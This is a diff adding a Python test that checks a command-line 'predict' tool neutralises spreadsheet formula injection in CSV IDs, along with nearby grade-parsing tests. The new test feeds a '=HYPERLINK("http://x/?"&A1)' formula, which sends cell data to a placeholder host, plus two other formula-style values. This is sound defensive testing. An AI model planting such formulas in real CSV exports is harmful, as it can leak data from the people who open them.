@@ -243,3 +243,17 @@ def test_parse_grade_with_korean_and_prefix_labels():
     assert parse_grade("우수함", classes) is None  # a longer word is not the label
     assert parse_grade("grade: pass with merit", ["pass", "pass with merit"]) == "pass with merit"
     assert parse_grade("A+", ["A", "A+"]) == "A+"
+
+
+def test_predict_neutralises_ids_a_spreadsheet_would_run(cli, run_dir, tmp_path):
+    """OWASP's CSV injection: an ID such as =HYPERLINK(...) is written as text ('=...), every other ID as it was."""
+    data = unlabelled_csv(tmp_path / "t.csv", rows=6)
+    frame = pd.read_csv(data, dtype=str)
+    frame.loc[0, "ID"], frame.loc[1, "ID"], frame.loc[2, "ID"] = '=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "+1+1"
+    frame.to_csv(data, index=False)
+    out = tmp_path / "s.csv"
+    code, _, err = cli("predict", run_dir, "--data", data, "--out", out)
+    assert code == 0, err
+    written = pd.read_csv(out, dtype=str)
+    assert written["ID"].tolist()[:3] == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1+1)", "'+1+1"]
+    assert written["ID"].tolist()[3:] == frame["ID"].tolist()[3:]
